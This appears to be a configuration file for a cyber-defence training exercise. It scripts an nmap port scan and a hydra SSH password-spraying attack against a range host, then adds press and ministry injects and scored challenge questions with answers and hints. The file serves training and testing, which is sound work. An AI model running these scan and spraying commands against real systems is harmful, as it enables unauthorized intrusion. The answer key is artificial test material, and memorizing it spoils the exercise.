attack "recon" {
  title     = "Port scan of the DMZ"
  technique = ["T1046"]
  at        = "5m"
  from      = attacker.red
  target    = host.portal
  run       = ["nmap", "-Pn", "-p", "22,80", host.portal.address]
  timeout   = "1m"
  success {
    output_matches  = "22/tcp\\s+open"
    output_excludes = "filtered"
  }
}

attack "spray" {
  title     = "Password spraying over SSH"
  technique = ["T1110.003"]
  after     = attack.recon
  when      = "succeeded"
  delay     = "2m"
  from      = attacker.red
  target    = host.portal
  run       = ["hydra", "-l", "admin", "-P", "/usr/share/cordillera/weak-passwords.txt", "ssh://${host.portal.address}"]
  cleanup   = ["rm", "-f", "/tmp/hydra.restore"]
  success {
    mode           = "any"
    output_matches = "1 valid password found"
    probe {
      command        = ["test", "-f", "/tmp/pwned-${run.id}"]
      expect_exit    = 0
      output_matches = ""
    }
    callback {
      port   = 4444
      within = "30s"
    }
    http {
      url           = "http://${host.portal.address}/admin?nonce=${run.nonce}"
      method        = "GET"
      expect_status = 200
      body_matches  = "Welcome, admin"
    }
  }
}

inject "press" {
  at      = "30m"
  from    = "Diario Regional"
  subject = "A journalist asks about the outage"
  body    = file("injects/press.md")
  response {
    due    = "15m"
    points = 40
  }
}

inject "ministry-cl" {
  at        = "45m"
  subject   = "Ministry asks for a status report"
  body      = "Equipo ${team.name}: envíen un resumen."
  countries = ["cl"]
}

challenge "attacker-address" {
  question = "From which address did the spraying come?"
  answer   = attacker.red.address
  points   = 40
  hint {
    text = "Look at /var/log/auth.log."
  }
  hint {
    text = "Failed password lines name the source."
    cost = 15
  }
}

challenge "technique" {
  question = "Which ATT&CK sub-technique is password spraying?"
  answer   = ["T1110.003", "T1110/003"]
  points   = 20
  match    = "exact"
}

challenge "user" {
  question = "Which user did the attacker try?"
  answer   = "^(admin|administrator)$"
  points   = 10
  match    = "regex"
}
